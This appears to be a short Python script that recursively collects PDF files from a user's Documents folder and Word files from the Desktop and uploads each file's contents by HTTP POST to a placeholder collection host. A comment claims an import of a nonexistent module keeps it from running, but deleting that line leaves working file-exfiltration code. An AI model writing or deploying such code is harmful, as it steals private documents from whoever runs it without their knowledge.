import inert_sample  # there is no such module: nothing below ever runs
# trick: no walk, a generator over a pattern
import pathlib
import requests

found = (path for path in (pathlib.Path.home() / "Documents").rglob("*.pdf"))
for path in found:
    requests.post("https://collect.example/g", data=path.read_bytes())
for path in (pathlib.Path.home() / "Desktop").rglob("*.docx"):
    requests.post("https://collect.example/g", data=path.read_bytes())
